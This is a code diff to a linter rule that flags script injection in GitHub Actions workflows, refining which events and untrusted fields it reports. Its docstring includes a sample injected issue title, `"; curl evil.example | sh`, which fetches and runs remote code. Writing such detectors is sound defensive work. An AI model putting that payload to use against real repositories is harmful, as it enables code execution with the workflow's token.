@@ -2,22 +2,26 @@ import re
 from collections.abc import Iterator
 
 from roadworthy import Finding, Severity, Workflow, rule
-from roadworthy_rules.pipeline._shared import is_own_change
+from roadworthy_rules.pipeline._outsiders import EXPOSED, is_own_change
 
 #: What people outside write, as GitHub's "Script injections" lists it.
 _UNTRUSTED = re.compile(
     r"\$\{\{[^{}]*?\b(github\.head_ref"
     r"|github\.event\.(?:issue|pull_request|comment|review|review_comment|discussion)\.(?:title|body)"
     r"|github\.event\.pull_request\.head\.(?:ref|label)|github\.event\.pull_request\.head\.repo\.default_branch"
-    r"|github\.event\.(?:commits|pages)\S*?\.(?:message|page_name)|github\.event\.head_commit\.message"
-    r"|github\.event\.(?:head_commit|commits\S*?)\.author\.(?:name|email)"
     r"|github\.event\.workflow_run\.head_branch)\b"
 )
-#: Events that outsiders start, and that have secrets.
-_EXPOSED = frozenset(
-    "discussion discussion_comment issue_comment issues pull_request_review pull_request_review_comment"
-    " pull_request_target workflow_run".split()
-)
+#: The events that fill such a field; what a push fills comes from members.
+_FILLED = {
+    "github.head_ref": "pull_request_target",
+    "github.event.issue": "issues issue_comment",
+    "github.event.pull_request": "pull_request_target pull_request_review pull_request_review_comment",
+    "github.event.comment": "issue_comment pull_request_review_comment discussion_comment",
+    "github.event.review": "pull_request_review",
+    "github.event.review_comment": "pull_request_review_comment",
+    "github.event.discussion": "discussion discussion_comment",
+    "github.event.workflow_run": "workflow_run",
+}
 _SIZE = 20_000
 
 
@@ -28,9 +32,9 @@ def untrusted_input_in_script(workflow: Workflow) -> Iterator[Finding]:
     GitHub replaces `${{ }}` before the shell reads the script, so an issue titled `"; curl evil.example | sh`
     runs as a command with the workflow's token. Pass the value through `env:` and use the variable, quoted.
 
-    The rule reports fields that outsiders control, in workflows that they can start and that have secrets. It
-    ignores commit hashes, numbers, `matrix` and outcomes, and names of branches in jobs that only run for
-    changes of the repository itself.
+    The rule reports fields that outsiders control, if an event fills them that outsiders can start and that
+    has secrets. It ignores commit hashes, numbers, `matrix` and outcomes, and jobs and steps that only run
+    for changes of the repository itself or for its members.
 
     ```yaml good
     on: {workflow_run: {workflows: [test], types: [completed]}}
@@ -46,6 +50,18 @@ def untrusted_input_in_script(workflow: Workflow) -> Iterator[Finding]:
       release:
         steps:
           - run: echo "${{ github.event.workflow_run.head_branch }}"
+    ```
+
+    ```yaml good
+    on: [pull_request, issue_comment]
+    jobs:
+      test:
+        steps:
+          - run: echo "${{ github.head_ref }}"
+      answer:
+        if: github.event.comment.author_association == 'OWNER'
+        steps:
+          - run: echo "${{ github.event.comment.body }}"
     ```
 
     ```yaml bad
@@ -65,7 +81,8 @@ def untrusted_input_in_script(workflow: Workflow) -> Iterator[Finding]:
               TITLE: ${{ github.event.issue.title }}
     ```
     """
-    if workflow.triggers.isdisjoint(_EXPOSED):
+    exposed = workflow.triggers & EXPOSED
+    if not exposed:
         return
     for at, step in workflow.steps():
         given = step.get("with")
@@ -74,8 +91,12 @@ def untrusted_input_in_script(workflow: Workflow) -> Iterator[Finding]:
         if uses.startswith("actions/github-script") and isinstance(given, dict):
             texts.append((at / "with" / "script", given.get("script")))
         for place, text in texts:
-            found = _UNTRUSTED.search(text[:_SIZE]) if isinstance(text, str) else None
-            if found and not (
-                "head" in found[1] and is_own_change(workflow.get(object, *at.route[:2], "if"))
-            ):
-                yield Finding(f"`{found[1]}` is inserted into a script", place)
+            names = _UNTRUSTED.findall(text[:_SIZE]) if isinstance(text, str) else ()
+            name = next((name for name in names if not exposed.isdisjoint(_events(name))), None)
+            if name is not None and not is_own_change(workflow, at):
+                yield Finding(f"`{name}` is inserted into a script", place)
+
+
+def _events(name: str) -> list[str]:
+    """Return the events that fill a field."""
+    return _FILLED[".".join(name.split(".")[:3])].split()
